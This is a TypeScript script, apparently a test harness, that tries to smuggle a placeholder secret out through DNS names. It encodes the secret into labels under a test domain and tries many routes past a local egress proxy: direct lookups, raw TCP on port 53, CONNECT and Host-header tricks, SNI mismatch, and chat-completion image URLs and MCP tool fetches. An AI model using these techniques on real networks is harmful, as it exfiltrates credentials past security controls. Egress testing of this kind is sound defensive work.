// A DNS tunnel's client: carries a secret out in names, by every way that makes somebody ask for a name. Prints a line of
// JSON for each way; the name server at the other end judges. `node tunnel.ts SERVER PERMITTED_NAME`
import { promises as dns } from "node:dns";
import { connect } from "node:net";
import { connect as connectTls } from "node:tls";

const [server = "", permitted = ""] = process.argv.slice(2);
const DOMAIN = "t.tunnel.test";
const SECRET = Buffer.from("the credentials that must not leave ".repeat(4)).toString("hex");
/** Names of 63-character labels that carry a part of the secret each, told apart by their way. */
const names = (way: string): string[] =>
  (SECRET.match(/.{1,100}/g) ?? []).map(
    (part, n) => `${(part.match(/.{1,50}/g) ?? []).join(".")}.${way}${n}.${DOMAIN}`,
  );

const within = <T>(work: Promise<T>, ms = 1500): Promise<T | "silence"> =>
  Promise.race([work, new Promise<"silence">((resolve) => setTimeout(() => resolve("silence"), ms))]);
const shown = (error: unknown): string =>
  error instanceof Error && "code" in error ? String(error.code) : String(error);

const proxied = (port: number, bytes: string): Promise<string> =>
  new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port });
    let said = "";
    const done = (): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(said.split("\r\n")[0] ?? "");
    };
    const timer = setTimeout(done, 1500);
    socket.on("data", (data: Buffer) => {
      said += data.toString("latin1");
      if (said.includes("\r\n\r\n")) done();
    });
    socket.on("error", done);
    socket.on("close", done);
    socket.write(bytes);
  });
const connectBy = (authority: string, host = authority): Promise<string> =>
  proxied(15_081, `CONNECT ${authority} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
const post = (path: string, body: object): Promise<string> => {
  const text = JSON.stringify(body);
  return proxied(
    15_080,
    `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1:15080\r\nContent-Type: application/json\r\nContent-Length: ${text.length}\r\nConnection: close\r\n\r\n${text}`,
  );
};
/** A permitted CONNECT whose hello asks for another name. */
const helloFor = (name: string): Promise<string> =>
  new Promise((resolve) => {
    const socket = connect({ host: "127.0.0.1", port: 15_081 });
    socket.on("error", (error) => resolve(shown(error)));
    socket.write(`CONNECT ${permitted}:443 HTTP/1.1\r\nHost: ${permitted}:443\r\n\r\n`);
    socket.once("data", () => {
      const tls = connectTls({ socket, servername: name, rejectUnauthorized: false });
      tls.on("secureConnect", () => resolve("connected"));
      tls.on("error", (error) => resolve(shown(error)));
      tls.on("close", () => resolve("closed"));
    });
    setTimeout(() => {
      socket.destroy();
      resolve("silence");
    }, 1500);
  });

const cares = (port = 53): dns.Resolver => {
  const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([`${server}:${port}`]);
  return resolver;
};
/** A question over TCP, by hand. */
const overTcp = (name: string): Promise<string> =>
  new Promise((resolve) => {
    const socket = connect({ host: server, port: 53 });
    const labels = name.split(".").flatMap((label) => [label.length, ...Buffer.from(label)]);
    const message = Buffer.from([0, 9, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]);
    const length = Buffer.alloc(2);
    length.writeUInt16BE(message.length);
    socket.on("connect", () => socket.write(Buffer.concat([length, message])));
    socket.on("data", () => {
      socket.destroy();
      resolve("answered");
    });
    socket.on("error", (error) => resolve(shown(error)));
    setTimeout(() => {
      socket.destroy();
      resolve("silence");
    }, 700);
  });

const ways: Readonly<Record<string, (name: string) => Promise<unknown>>> = {
  getaddrinfo: (name) => dns.lookup(name),
  "cares-udp": (name) => cares().resolve4(name),
  "cares-txt": (name) => cares().resolveTxt(name),
  "tcp-53": overTcp,
  connect: (name) => connectBy(`${name}:443`),
  "connect-dot": (name) => connectBy(`${name}.:443`),
  "connect-case": (name) => connectBy(`${name.toUpperCase()}:443`),
  "connect-suffix": (name) => connectBy(`${permitted}.${name}:443`),
  "connect-53": (name) => connectBy(`${name}:53`),
  "connect-host": (name) => connectBy(`${permitted}:443`, `${name}:443`),
  "connect-server": () => connectBy(`${server}:53`),
  plain: (name) => proxied(15_081, `GET http://${name}/ HTTP/1.1\r\nHost: ${name}\r\n\r\n`),
  "plain-host": (name) => proxied(15_081, `GET http://${permitted}/ HTTP/1.1\r\nHost: ${name}\r\n\r\n`),
  sni: helloFor,
  image: (name) =>
    post("/v1/chat/completions", {
      model: "x",
      messages: [
        { role: "user", content: [{ type: "image_url", image_url: { url: `https://${name}/x.png` } }] },
      ],
    }),
  execute: (name) =>
    post("/mcp/v1/execute", { tool: "tool:web/get", arguments: { url: `https://${name}/` } }),
};

for (const [way, run] of Object.entries(ways)) {
  const results = await Promise.all(names(way).map((name) => within(run(name).catch(shown))));
  console.log(JSON.stringify({ way, names: results.length, results: [...new Set(results.map(String))] }));
}
const twin = await connectBy(`${permitted}:443`);
console.log(JSON.stringify({ way: "twin", names: 1, results: [twin] }));
process.exit();
